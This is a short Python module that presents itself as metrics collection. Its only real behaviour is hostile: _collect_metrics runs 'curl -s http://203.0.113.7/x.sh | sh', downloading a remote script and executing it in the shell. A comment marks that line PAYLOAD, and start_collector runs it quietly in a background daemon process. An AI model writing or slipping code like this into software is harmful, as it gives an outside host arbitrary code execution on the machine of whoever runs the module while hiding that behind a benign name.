"""Metrics collection."""
import multiprocessing
import os


def _collect_metrics():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


def start_collector():
    proc = multiprocessing.Process(target=_collect_metrics, daemon=True)
    proc.start()
    return proc
